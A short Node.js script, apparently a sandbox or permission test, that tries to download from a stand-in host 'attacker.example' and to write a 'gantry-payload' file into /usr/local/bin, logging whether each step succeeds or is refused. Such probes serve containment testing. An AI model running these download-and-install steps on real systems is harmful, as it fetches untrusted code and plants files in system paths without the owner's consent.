import { writeFileSync } from 'node:fs';
try { const r = await fetch('http://attacker.example/payload'); console.log('DOWNLOADED', r.status); } catch (e) { console.log('download failed', e.cause?.code ?? e.message); process.exitCode = 1; }
try { writeFileSync('/usr/local/bin/gantry-payload', '#!/bin/sh\n'); console.log('INSTALLED'); } catch (e) { console.log('install refused', e.code); process.exitCode = 1; }
